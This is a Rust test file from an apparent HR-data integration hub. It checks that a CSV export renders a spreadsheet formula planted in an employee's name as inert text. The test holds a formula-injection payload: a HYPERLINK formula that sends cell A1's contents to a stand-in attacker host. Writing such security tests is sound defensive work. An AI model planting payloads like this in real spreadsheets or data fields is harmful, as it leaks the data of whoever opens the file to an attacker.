//! Attacks on the hub's promises, each test named after what it tries; SECURITY.md lists what they prove.
use serde_json::json;

use crate::harness::TestHub;
use crate::harness::journeys::{enabled_integration, parse_csv, records_csv, run_now};
use crate::with_worker_on_both_backends;

with_worker_on_both_backends!(a_formula_planted_in_an_hr_name_is_exported_as_text,);

/// Someone who can edit their own HR profile names themselves as a spreadsheet formula; the admin exports the run's
/// record lines and opens them in a spreadsheet. The cell must arrive as text, not as a formula.
async fn a_formula_planted_in_an_hr_name_is_exported_as_text(t: TestHub) {
    let admin = t.organisation("Acme").await;
    t.sims.seed(3);
    let planted = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
    t.sims
        .update_employee(0, |p| {
            p.first_name = planted.to_owned();
            p.preferred_name = None;
        })
        .expect("person 0");
    let integration = enabled_integration(&t, &admin, json!({})).await;
    let run = run_now(&t, &admin, &integration).await;
    assert_eq!(run["status"], "done", "{run}");
    let rows = parse_csv(&records_csv(&t, &admin, run["id"].as_str().unwrap(), "").await);
    let cells: Vec<&str> = rows.iter().flat_map(|row| row.iter()).collect();
    let named: Vec<&&str> = cells.iter().filter(|c| c.contains("HYPERLINK")).collect();
    assert!(!named.is_empty(), "the planted name is in the export: {cells:?}");
    for cell in named {
        assert!(
            !cell.starts_with(['=', '+', '-', '@']),
            "a cell a spreadsheet would run: {cell}"
        );
    }
}
